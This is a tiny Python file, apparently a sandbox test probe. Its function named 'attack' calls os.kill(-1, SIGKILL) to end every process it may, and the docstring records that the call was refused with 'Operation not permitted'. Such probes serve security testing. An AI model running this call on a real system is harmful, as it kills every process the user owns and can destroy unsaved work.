"""Ends every process it may.

Refused: Operation not permitted
"""

import os
import signal


def attack(bait):
    os.kill(-1, signal.SIGKILL)
    return "killed"
